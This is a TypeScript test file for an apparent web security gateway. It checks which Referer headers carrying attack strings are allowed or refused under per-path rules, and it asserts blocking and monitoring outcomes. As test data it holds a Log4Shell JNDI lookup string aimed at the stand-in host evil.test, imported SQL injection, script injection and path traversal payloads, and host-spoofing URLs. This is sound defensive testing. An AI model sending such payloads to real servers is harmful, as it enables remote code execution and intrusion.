/** What a Referer may hold, and what of it is refused; and that it blocks nobody. */
import { assertEquals } from "@std/assert";
import { type AskOptions, createTestApp, type TestApp } from "../_app.ts";
import { FILE, SCRIPT, searchFor, serveTestSite, SQL } from "./_attacks.ts";

const HOST = "gate.example";
const LOG4J = "${jndi:ldap://evil.test/a}";
const RULES = "/search=enforce:query.q+query.filter,/free/*=off,/watched=monitor";
const asset = (dest: string) => ({ "sec-fetch-site": "same-origin", "sec-fetch-dest": dest });
const page = (path: string, name: string, text: string) =>
  `http://${HOST}${path}?${name}=${encodeURIComponent(text)}`;

/** Pages that a rule lets be called with anything, as the Referer of what they lead to. */
const PASSED: readonly (readonly [name: string, path: string, referer: string])[] = [
  ["a picture of an exempted search", "/logo.png", page("/search", "q", SQL)],
  ["its next page", "/product/7", page("/search", "q", SCRIPT)],
  ["its second exempted field", "/app.js", page("/search", "filter", SQL)],
  ["the exempted field among others", "/app.css", `${page("/search", "q", SCRIPT)}&page=2`],
  ["base64 in it", "/font.woff2", page("/search", "q", btoa(SCRIPT))],
  ["a page that is not examined", "/logo.png", page("/free/x", "anything", SCRIPT)],
  ["a path that is not examined", "/logo.png", `http://${HOST}/free/${encodeURIComponent(SQL)}`],
  ["a page that is only watched", "/logo.png", page("/watched", "q", SQL)],
];

const REFUSED: readonly (readonly [name: string, referer: string])[] = [
  ["another field of that page", page("/search", "sort", SQL)],
  ["another page", page("/other", "q", SQL)],
  ["a path below it", page("/search/more", "q", SQL)],
  ["the path of the page", `http://${HOST}/search/${LOG4J}`],
  ["the field on another site", `http://evil.test/search?q=${encodeURIComponent(SCRIPT)}`],
  ["the field on another port", `http://${HOST}:81/search?q=${encodeURIComponent(SCRIPT)}`],
  ["a name before the host", `http://${HOST}@evil.test/search?q=${encodeURIComponent(SCRIPT)}`],
  ["a name for our host", `http://x@${HOST}/search?q=${encodeURIComponent(SCRIPT)}`],
  ["no address at all", LOG4J],
  ["a way out of the root", FILE],
];

async function withSite(act: (app: TestApp) => Promise<void>, GATE_MODE = "enforce") {
  await using site = serveTestSite();
  await using app = await createTestApp({
    env: { ORIGIN_URL: site.url, THREAT_RULES: RULES, GATE_MODE, LIMIT_STORE: "ip:100000/1m" },
  });
  await act(app);
}

const statusOf = async (app: TestApp, path: string, options: AskOptions) =>
  (await app.ask(path, options)).status;

Deno.test("a Referer may hold what the rules let its page hold, on assets, pages and forms", async () => {
  await withSite(async (app) => {
    for (const [name, path, referer] of PASSED) {
      const { pathname, search } = new URL(referer);
      assertEquals(await statusOf(app, pathname + search, {}), 200, `the page itself: ${name}`);
      for (const dest of ["image", "style", "script", "font", "empty", "document"]) {
        const headers = { referer, ...asset(dest) };
        assertEquals(await statusOf(app, path, { headers }), 200, `${dest}: ${name}`);
      }
      const posted = {
        method: "POST",
        body: new URLSearchParams({ a: "b" }),
        headers: { referer },
      };
      assertEquals(await statusOf(app, path, posted), 200, `a form: ${name}`);
    }
  });
});

Deno.test("a Referer is examined otherwise, and refused without a block", async () => {
  await withSite(async (app) => {
    for (const [at, [name, referer]] of REFUSED.entries()) {
      const from = `198.51.100.${at}`;
      for (const headers of [{ referer }, { referer, ...asset("image") }]) {
        assertEquals(await statusOf(app, "/logo.png", { from, headers }), 403, name);
      }
    }
    const from = "198.51.100.200";
    for (const [, referer] of REFUSED) await app.ask("/", { from, headers: { referer } });
    assertEquals(await statusOf(app, "/", { from }), 200, "however many of them");
  });
});

Deno.test("an attack beside a Referer that may be anything is refused, and counts", async () => {
  await withSite(async (app) => {
    const headers = { referer: page("/search", "q", `${SCRIPT} ${FILE} ${LOG4J}`.repeat(4)) };
    for (const text of [SQL, SCRIPT]) {
      assertEquals(await statusOf(app, searchFor(text), { headers }), 403);
    }
    assertEquals(await statusOf(app, "/", {}), 403, "blocked");
  });
});

Deno.test("GATE_MODE=monitor notes what is in a Referer", async () => {
  await withSite(async (app) => {
    await app.ask("/", { headers: { referer: page("/other", "q", SQL) } });
    const { items } = await app.services.incidents.events({ limit: 10 });
    assertEquals(items.map(({ type, action, signals }) => [type, action, signals?.[0].field]), [
      ["threat", "monitor", "header.referer.q"],
    ]);
  }, "monitor");
});
